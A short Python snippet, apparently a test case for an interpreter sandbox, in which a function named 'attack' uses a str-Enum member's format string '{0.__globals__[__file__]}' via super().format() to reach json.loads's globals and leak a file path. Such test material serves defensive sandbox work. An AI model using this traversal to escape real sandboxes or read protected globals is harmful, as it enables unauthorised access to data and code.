# By `super`, of a string that is a member of an enum.
# after: interpreter
# source: own
import json
from enum import Enum
class S(str, Enum):
    A = "{0.__globals__[__file__]}"
    def go(self, x):
        return super().format(x)
def attack(**_):
    return {"text": S.A.go(json.loads)}
